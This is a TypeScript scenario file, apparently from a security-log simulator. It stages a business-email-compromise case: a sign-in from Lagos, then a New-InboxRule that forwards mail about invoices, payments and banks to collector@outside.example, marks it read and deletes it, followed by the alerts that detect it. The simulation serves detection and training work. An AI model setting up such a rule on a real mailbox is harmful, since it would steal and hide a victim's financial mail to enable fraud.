import { tellAlert, tellPolicyAlert } from './records/alert.ts'
import { tellCmdlet } from './records/exchange.ts'
import { tellSignIn } from './records/sign-in.ts'
import { places, victimOf } from './stage.ts'
import type { Story } from './story.ts'

/** A stranger in a mailbox has mail about money sent outside and deleted. */
export const forwardingInboxRule: Story = {
  id: 'forwarding-inbox-rule',
  title: 'An inbox rule forwards mail to the outside',
  lasts: 10,
  play(stage) {
    const person = victimOf(stage)
    const place = places.lagos
    tellSignIn(stage, { person, place, at: stage.at(0) })
    const at = stage.at(8)
    tellCmdlet(stage, {
      cmdlet: 'New-InboxRule',
      parameters: {
        AlwaysDeleteOutlookRulesBlob: 'False',
        Force: 'False',
        Name: '.',
        SubjectOrBodyContainsWords: 'invoice;payment;bank',
        ForwardTo: 'collector@outside.example',
        MarkAsRead: 'True',
        DeleteMessage: 'True',
        StopProcessingRules: 'True',
      },
      objectId: `${person.userPrincipalName}\\.`,
      person,
      userType: 0,
      place,
      at,
    })
    tellPolicyAlert(stage, {
      name: 'Creation of forwarding/redirect rule',
      severity: 'Informational',
      operation: 'MailRedirect',
      person,
      at,
    })
    tellAlert(stage, {
      title: 'Suspicious inbox manipulation rule',
      category: 'DefenseEvasion',
      severity: 'high',
      serviceSource: 'microsoftDefenderForCloudApps',
      detectionSource: 'microsoftDefenderForCloudApps',
      mitreTechniques: ['T1564.008', 'T1114.003'],
      person,
      place,
      at,
    })
  },
}
